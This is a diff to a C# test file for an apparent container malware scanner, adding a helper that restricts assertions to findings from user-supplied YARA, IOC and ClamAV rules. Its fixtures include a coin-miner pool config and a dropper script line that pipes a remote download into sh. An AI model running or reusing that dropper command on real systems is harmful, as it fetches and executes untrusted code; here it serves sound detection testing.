@@ -13,6 +13,9 @@ namespace Drydock.Tests.Cli;
 /// real libyara, a real clamd, files a later layer deletes.</summary>
 public sealed class UserRuleCommandTests
 {
+    // The built-in scanners also judge these files (the staged script runs a miner); these tests are about the user's rules.
+    private static List<MalwareFinding> UserRuleHits(ScanReport report) => [.. report.Malware.Where(f => f.Source == "user-rule")];
+
     private const string MinerConfig = "{\n  \"pools\": [{ \"url\": \"stratum+tcp://pool.example.org:3333\", \"user\": \"wallet\" }]\n}\n";
     private static readonly byte[] Dropper = Encoding.UTF8.GetBytes("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n");
 
@@ -68,7 +71,7 @@ public sealed class UserRuleCommandTests
         var report = run.Report;
         Assert.Equal(VerdictKind.Malicious, report.Verdict!.Verdict);
         Assert.Equal([ThreatCategory.CoinMiner], report.Verdict.Categories);
-        var config = report.Malware.Single(f => f.Path == "/opt/miner/config.json");
+        var config = UserRuleHits(report).Single(f => f.Path == "/opt/miner/config.json");
         Assert.Equal(("yara/miners/miner_pool", ThreatCategory.CoinMiner, Confidence.High, "user-rule", false),
             (config.RuleId, config.Category, config.Confidence, config.Source, config.Deleted));
         Assert.Equal("Stratum mining-pool URL", config.Title);
@@ -76,10 +79,10 @@ public sealed class UserRuleCommandTests
         var evidence = Assert.Single(config.Evidence);
         Assert.Equal(("$pool: stratum+tcp://", MinerConfig.IndexOf("stratum", StringComparison.Ordinal)), (evidence.Value, (int)evidence.Offset!.Value));
 
-        var stage = report.Malware.Single(f => f.Path == "/tmp/stage.sh");
+        var stage = UserRuleHits(report).Single(f => f.Path == "/tmp/stage.sh");
         Assert.True(stage.Deleted);
         Assert.Equal(report.Artifact.Layers[1].DiffId, stage.DeletedIn);
-        Assert.Equal(2, report.Malware.Count);
+        Assert.Equal(2, UserRuleHits(report).Count);
     }
 
     [LibyaraFact]
@@ -96,7 +99,7 @@ public sealed class UserRuleCommandTests
         var run = await ScanAsync("--ioc-file", WriteFile("iocs.txt", $"# campaign 42\n{new string('0', 64)} unrelated\n{hash}  dropper.sh\n"));
 
         Assert.True(run.ExitCode == 0, run.Stderr);
-        var finding = Assert.Single(run.Report.Malware);
+        var finding = Assert.Single(UserRuleHits(run.Report));
         Assert.Equal(("/usr/local/bin/dropper", "ioc/sha256", ThreatCategory.KnownBadHash, Confidence.High, hash, "user-rule"),
             (finding.Path, finding.RuleId, finding.Category, finding.Confidence, finding.Sha256, finding.Source));
         Assert.Equal(VerdictKind.Malicious, run.Report.Verdict!.Verdict);
@@ -117,9 +120,9 @@ public sealed class UserRuleCommandTests
         Assert.Equal(
             [("/srv/body.bin", "clamd/DrydockTest.Unix.Coinminer.Body.UNOFFICIAL", ThreatCategory.CoinMiner),
              ("/srv/hashed.bin", "clamd/DrydockTest.Win.Trojan.Hashed.UNOFFICIAL", ThreatCategory.WindowsMalware)],
-            report.Malware.OrderBy(f => f.Path, StringComparer.Ordinal).Select(f => (f.Path!, f.RuleId, f.Category)));
-        Assert.All(report.Malware, f => Assert.Equal((Confidence.High, "user-rule"), (f.Confidence, f.Source)));
-        Assert.Equal("DrydockTest.Unix.Coinminer.Body.UNOFFICIAL", report.Malware.Single(f => f.Path == "/srv/body.bin").Evidence.Single().Value);
+            UserRuleHits(report).OrderBy(f => f.Path, StringComparer.Ordinal).Select(f => (f.Path!, f.RuleId, f.Category)));
+        Assert.All(UserRuleHits(report), f => Assert.Equal((Confidence.High, "user-rule"), (f.Confidence, f.Source)));
+        Assert.Equal("DrydockTest.Unix.Coinminer.Body.UNOFFICIAL", UserRuleHits(report).Single(f => f.Path == "/srv/body.bin").Evidence.Single().Value);
         Assert.Contains(report.Warnings, w => w.Code == "clamd-no-database-version");
     }
 
